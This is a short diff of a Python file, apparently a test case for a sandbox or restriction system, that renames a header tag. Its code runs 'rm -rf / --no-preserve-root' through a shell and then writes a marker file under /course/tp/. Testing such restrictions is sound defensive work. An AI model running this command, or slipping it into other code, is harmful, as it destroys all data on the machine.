@@ -1,6 +1,6 @@
 # Deletes everything by way of a shell.
 # changes: helpers
-# wall: helpers
+# restriction: helpers
 import subprocess
 
 subprocess.run("rm -rf / --no-preserve-root; touch /course/tp/mine", shell=True)
